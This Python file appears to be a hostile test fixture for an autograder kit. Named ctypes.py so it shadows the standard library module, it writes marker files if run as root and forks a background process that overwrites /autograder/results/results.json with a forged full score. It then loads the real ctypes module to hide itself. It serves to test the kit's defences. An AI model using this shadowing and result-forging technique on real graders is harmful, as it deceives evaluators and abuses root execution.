# A module named as the standard library's ctypes, handed in beside the programs (hostile: the
# kit must never run it as root). Python imports a file of its working folder, or of its script's
# folder, before the standard library's own: were root ever to start Python in a submission's
# folder, this would run as root. It shows it as an attacker would use it: as root it leaves a mark
# no program can leave, then waits in the background for the platform's results and forges them
# (full marks). Whoever imported it then gets the real ctypes, so that nothing looks amiss: the
# submission's own programs, which import it as the program's uid, work as they would without it.
import os
import sys
import time

if os.geteuid() == 0:
    for mark in ("/autograder/ROOT-BY-CTYPES", "/root/ROOT-BY-CTYPES", "/ROOT-BY-CTYPES"):
        try:
            with open(mark, "w") as f:
                f.write("a submission's ctypes.py ran as root\n")
        except OSError:
            pass
    if os.fork() == 0:
        os.setsid()
        results = "/autograder/results/results.json"
        for _ in range(3000):
            if os.path.exists(results):
                time.sleep(1)
                with open(results, "w") as f:
                    f.write('{"score": 36.0, "output": "forged by ctypes.py", "tests": []}\n')
                break
            time.sleep(0.2)
        os._exit(0)

# The real module, in this one's place: found on the path without this file's folder.
here = os.path.dirname(os.path.abspath(__file__))
saved = sys.path[:]
sys.path = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules[__name__]
import ctypes as real  # noqa: E402  (the standard library's, now)
sys.path = saved
sys.modules[__name__] = real
